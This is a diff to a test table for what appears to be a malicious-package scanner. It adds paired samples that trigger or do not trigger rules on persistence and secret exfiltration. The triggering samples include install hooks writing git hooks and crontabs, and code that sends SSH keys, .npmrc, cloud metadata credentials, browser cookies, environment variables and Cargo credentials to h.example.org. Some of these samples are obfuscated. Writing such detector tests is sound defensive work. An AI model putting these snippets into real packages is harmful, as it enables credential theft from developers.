@@ -166,6 +166,19 @@ const rows: readonly Row[] = [
     },
   },
   {
+    rule: "capability/persists", // what git runs, of a tree that is found, and the examples that git puts there
+    fires: {
+      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
+      "a.js":
+        'const fs = require("fs"), path = require("path")\nconst put = (dir, then) => setImmediate(then, path.join(dir, "hooks"))\nput(path.join(process.cwd(), ".git"), (d) => fs.writeFile(path.join(d, "pre-commit"), "#!/bin/sh\\n", () => {}))\n',
+    },
+    silent: {
+      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
+      "a.js":
+        'const fs = require("fs"), path = require("path")\nconst put = (dir, then) => setImmediate(then, path.join(dir, "hooks"))\nput(path.join(process.cwd(), ".git"), (d) => fs.writeFile(path.join(d, "pre-commit.sample"), "#!/bin/sh\\n", () => {}))\n',
+    },
+  },
+  {
     rule: "capability/persists",
     fires: { "package.json": `{"name":"a","scripts":{"postinstall":"(crontab -l; echo '@daily a') | crontab -"}}\n` },
     silent: { "package.json": '{"name":"a","scripts":{"postinstall":"crontab -l; crontab -r"}}\n' },
@@ -220,6 +233,11 @@ const rows: readonly Row[] = [
       'require("fs").readFile(require("os").homedir() + "/.ssh/id_rsa", (e, k) => fetch("//h", { body: k }))\n',
       'require("fs").readFile("a.txt", (e, k) => fetch("//h", { body: k }))\n',
     ],
+    // A name in pieces, of a folder that is handed over.
+    [
+      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "npm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
+      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "nvm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
+    ],
     // A token goes back to whoever gave it.
     [
       'const t = require("child_process").execSync("gh auth token")\nfetch("https://h.example.org/", { body: t })\n',
@@ -235,6 +253,32 @@ const rows: readonly Row[] = [
     fires: { "setup.py": "import os, requests\nrequests.post('//h', json=dict(os.environ))\n" },
     silent: { "setup.py": "import os, requests\nrequests.post('//h', json=os.environ['A_TOKEN'])\n" },
   },
+  ...[
+    // Keys that a cloud gives a machine, to somebody else and to that cloud.
+    [
+      "import ipaddress, requests\nk = requests.get(f'http://{ipaddress.ip_address(0xA9FEA9FE)}/latest/meta-data/iam/security-credentials/a').text\nrequests.post('https://h.example.org/', data=k)\n",
+      "import requests\nk = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/a').json()\nrequests.post('https://sts.amazonaws.com/', headers={'a': k['Token']})\n",
+    ],
+    // What a browser keeps of its user, and what a program keeps of its own.
+    [
+      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'Cook' + 'ies'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
+      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'state.db'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
+    ],
+    // A function that is handed all of it, some filtered out, and one that is handed one of it.
+    [
+      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, v) for k, v in os.environ.items() if k.startswith('A_')])\n",
+      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, os.environ[k]) for k in ('A_TOKEN', 'A_URL')])\n",
+    ],
+  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "setup.py": fires }, silent: { "setup.py": silent } })),
+  ...[
+    // What cargo logs in with, and what it builds.
+    ["credentials", "Cargo"],
+  ].map(([fires = "", silent = ""]): Row => {
+    const of = (name: string): Files => ({
+      "build.rs": `use std::io::Write;\nfn main() {\n  let dir = std::env::var("CARGO_HOME").or_else(|_| std::env::var("HOME").map(|h| h + "/.cargo")).unwrap();\n  let stem = "${name}";\n  let it = std::fs::read(format!("{dir}/{stem}.toml")).unwrap();\n  std::net::TcpStream::connect(("h.example.org", 80)).unwrap().write_all(&it);\n}\n`,
+    })
+    return { rule: "flow/secret-leaves", fires: of(fires), silent: of(silent) }
+  }),
   {
     rule: "flow/secret-leaves",
     fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
